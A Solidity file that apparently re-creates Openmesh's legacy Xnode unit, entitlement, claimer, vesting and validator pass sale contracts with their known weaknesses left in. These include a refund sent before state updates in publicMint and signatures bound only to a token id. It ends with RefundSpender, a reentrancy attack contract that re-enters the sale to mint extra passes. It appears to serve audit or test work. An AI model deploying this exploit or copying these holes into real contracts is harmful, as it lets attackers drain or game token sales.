// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
import {EIP712} from "@openzeppelin/contracts/utils/cryptography/EIP712.sol";

// What Openmesh's earlier contracts of the Xnode programme and its pass sale do, in code of our own, as far as their
// weaknesses need it.

/// @dev XnodeUnit: minted, burned by its owner or by a role, nothing about time.
contract LegacyUnit is ERC721, AccessControl {
    bytes32 public constant MINT_ROLE = keccak256("MINT");
    bytes32 public constant BURN_ROLE = keccak256("BURN");

    constructor(address admin) ERC721("Xnode Unit", "XU") {
        _grantRole(DEFAULT_ADMIN_ROLE, admin);
    }

    function mint(address to, uint256 tokenId) external onlyRole(MINT_ROLE) {
        _mint(to, tokenId);
    }

    function burn(uint256 tokenId) external {
        if (msg.sender != ownerOf(tokenId)) _checkRole(BURN_ROLE);
        _burn(tokenId);
    }

    function supportsInterface(bytes4 interfaceId) public view override(ERC721, AccessControl) returns (bool) {
        return super.supportsInterface(interfaceId);
    }
}

/// @dev XnodeUnitEntitlement: activated by whoever may move it, or by a signature of such a one over the id alone.
contract LegacyEntitlement is ERC721, EIP712, AccessControl {
    bytes32 public constant MINT_ROLE = keccak256("MINT");
    bytes32 public constant ACTIVATE_TYPEHASH = keccak256("Activate(uint256 tokenId)");

    LegacyUnit public immutable xnodeUnit;

    constructor(
        LegacyUnit xnodeUnit_,
        address admin
    ) ERC721("Xnode Unit Entitlement", "XUE") EIP712("Xnode Unit Entitlement", "1") {
        xnodeUnit = xnodeUnit_;
        _grantRole(DEFAULT_ADMIN_ROLE, admin);
    }

    function mint(address to, uint256 tokenId) external onlyRole(MINT_ROLE) {
        _mint(to, tokenId);
    }

    function activate(uint256 tokenId) external {
        _activate(tokenId, msg.sender);
    }

    function activateBySig(uint256 tokenId, uint8 v, bytes32 r, bytes32 s) external {
        _activate(tokenId, ECDSA.recover(activationDigest(tokenId), v, r, s));
    }

    function activationDigest(uint256 tokenId) public view returns (bytes32) {
        return _hashTypedDataV4(keccak256(abi.encode(ACTIVATE_TYPEHASH, tokenId)));
    }

    function supportsInterface(bytes4 interfaceId) public view override(ERC721, AccessControl) returns (bool) {
        return super.supportsInterface(interfaceId);
    }

    function _activate(uint256 tokenId, address authority) private {
        xnodeUnit.mint(ownerOf(tokenId), tokenId);
        _update(address(this), tokenId, authority);
    }
}

/// @dev XnodeUnitEntitlementClaimer: one key signs, each code hash is a token id.
contract LegacyClaimer is Ownable, EIP712 {
    bytes32 public constant CLAIM_TYPEHASH = keccak256("Claim(address receiver,bytes32 codeHash,uint32 claimBefore)");

    LegacyEntitlement public immutable entitlement;

    error ProofExpired();
    error InvalidProof();

    constructor(
        LegacyEntitlement entitlement_,
        address signer
    ) Ownable(signer) EIP712("Xnode Unit Entitlement Claimer", "1") {
        entitlement = entitlement_;
    }

    function claim(address receiver, bytes32 codeHash, uint32 claimBefore, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= claimBefore, ProofExpired());
        require(ECDSA.recover(claimDigest(receiver, codeHash, claimBefore), v, r, s) == owner(), InvalidProof());
        entitlement.mint(receiver, uint256(codeHash));
    }

    function claimDigest(address receiver, bytes32 codeHash, uint32 claimBefore) public view returns (bytes32) {
        return _hashTypedDataV4(keccak256(abi.encode(CLAIM_TYPEHASH, receiver, codeHash, claimBefore)));
    }
}

/// @dev XnodeUnitsOPENVesting: the same amount for each unit over one year that began for all at once, to whoever owns
/// the unit when it is released.
contract LegacyUnitVesting {
    LegacyUnit public immutable unit;
    IERC20 public immutable token;
    uint256 public immutable amount;
    uint256 public immutable start;
    uint256 public constant DURATION = 365 days;
    mapping(uint256 tokenId => uint256) public released;

    constructor(LegacyUnit unit_, IERC20 token_, uint256 amount_, uint256 start_) {
        (unit, token, amount, start) = (unit_, token_, amount_, start_);
    }

    function release(uint256 tokenId) external {
        uint256 passed = block.timestamp - start;
        uint256 vested = passed >= DURATION ? amount : (amount * passed) / DURATION;
        uint256 due = vested - released[tokenId];
        released[tokenId] = vested;
        require(token.transfer(unit.ownerOf(tokenId), due));
    }
}

/// @dev ValidatorPassDistributor with its pass: one per account, tiers by number sold, the surplus refunded in between.
contract LegacyDistributor is ERC721 {
    struct PricePeriod {
        uint256 mintCount;
        uint256 price;
    }

    PricePeriod[] public pricePeriods;
    uint256 public mintCount;
    mapping(address account => bool) public hasContributed;
    uint256 private _passes;

    error NotAllowed();
    error Underpaying(uint256 paid, uint256 price);
    error TransferReverted();
    error MintOver();

    constructor(PricePeriod[] memory periods) ERC721("Validator Pass", "EVP") {
        for (uint256 i = 0; i < periods.length; ++i) {
            pricePeriods.push(periods[i]);
        }
    }

    function publicMint() external payable {
        require(!hasContributed[msg.sender], NotAllowed());
        uint256 price = getCurrentPrice();
        require(msg.value >= price, Underpaying(msg.value, price));
        if (msg.value != price) {
            (bool success, ) = msg.sender.call{value: msg.value - price}("");
            require(success, TransferReverted());
        }
        _mint(msg.sender, _passes++);
        ++mintCount;
        hasContributed[msg.sender] = true;
    }

    function getCurrentPrice() public view returns (uint256) {
        for (uint256 i = 0; i < pricePeriods.length; ++i) {
            if (mintCount < pricePeriods[i].mintCount) return pricePeriods[i].price;
        }
        revert MintOver();
    }
}

/// @dev Spends each refund of the distributor on one more pass.
contract RefundSpender {
    LegacyDistributor private immutable _distributor;

    constructor(LegacyDistributor distributor) {
        _distributor = distributor;
    }

    function attack() external payable {
        _distributor.publicMint{value: msg.value}();
    }

    receive() external payable {
        _distributor.publicMint{value: msg.value}();
    }
}
